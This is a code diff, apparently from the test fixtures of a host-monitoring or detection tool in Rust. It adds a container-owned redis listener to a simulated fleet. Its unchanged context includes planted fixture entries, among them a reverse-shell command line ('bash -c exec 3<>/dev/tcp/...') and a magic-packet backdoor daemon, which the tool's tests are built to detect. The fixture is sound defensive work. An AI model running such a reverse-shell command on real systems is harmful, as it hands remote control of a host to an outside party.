@@ -34,6 +34,8 @@ pub(super) const REVERSE_SHELL: Planted =
     Planted { exe: "/usr/bin/bash", cmdline: "bash -c exec 3<>/dev/tcp/203.0.113.9/443", ..OF_PHP };
 /// 5. What waits for a magic packet.
 pub(super) const BACKDOOR: Planted = Planted { exe: "/usr/sbin/bpfd", cmdline: "/usr/sbin/bpfd", ..DAEMON };
+/// 11. The container of a listener.
+pub(super) const CONTAINER: &str = "3f4e1c0ad5b2477f9ac0f3b1a2d94c5e6b7a8091c2d3e4f5061728394a5b6c7d";
 /// The hosts that have a DHCP client: a cell without its batch hosts, which sleep at night.
 pub(super) fn dhcp_hosts(fleet: &Fleet) -> Vec<String> {
     let names = (20..40).map(|number| fleet.identity(number).unwrap().name);
@@ -280,6 +282,13 @@ fn network(fleet: &mut Fleet) {
         let mut process = later.process(sample);
         process.start_time_ms = snapshot::Millis::new((begins + 5) * 60_000);
         sample.put_process(&process).unwrap();
+    });
+
+    // A container's, of which only the user and the container are known.
+    edit(fleet, "worker-010", minute(0, 3, 2)..minute(0, 3, 5), |sample| {
+        let mut socket = listener(0, "redis", 6379);
+        (socket.pid, socket.container_id) = (None, Some(Text::cut(CONTAINER)));
+        sample.add_socket(&socket).unwrap();
     });
 
     // 13. A new port, and a known one with another program.
